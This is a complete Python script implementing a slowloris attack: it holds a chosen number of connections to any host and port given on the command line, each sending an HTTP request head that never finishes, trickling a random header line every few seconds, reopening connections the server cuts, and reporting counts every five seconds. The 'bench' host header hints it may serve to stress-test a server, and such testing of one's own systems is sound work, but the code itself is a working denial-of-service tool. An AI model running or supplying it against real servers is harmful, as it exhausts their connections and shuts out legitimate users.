"""A slowloris: holds N connections to host:port, each with a request head
that never ends (one more header line every few seconds), reconnecting
each connection the server closes. Runs until killed; prints how many it
holds and how many the server has cut off, every 5 s."""

import random
import socket
import sys
import time

HOST, PORT, N = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
EVERY = 3.0  # seconds between two header lines on one connection


def opened():
    s = socket.create_connection((HOST, PORT), timeout=2)
    s.setblocking(False)
    s.send(b"GET /hello HTTP/1.1\r\nHost: bench\r\n")
    return s


conns, cut = [], 0
while len(conns) < N:
    try:
        conns.append(opened())
    except OSError:
        time.sleep(0.01)
last = time.monotonic()
while True:
    # Spread the trickle over the interval rather than in bursts.
    for i in range(len(conns)):
        try:
            if conns[i].send(b"X-a-%d: b\r\n" % random.randrange(1 << 30)) == 0:
                raise OSError("closed")
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            cut += 1
            conns[i].close()
            try:
                conns[i] = opened()
            except OSError:
                conns[i] = socket.socket()  # unconnected: retried next pass
        time.sleep(EVERY / N)
    if time.monotonic() - last >= 5:
        print(f"holding {len(conns)}, cut off so far {cut}", flush=True)
        last = time.monotonic()
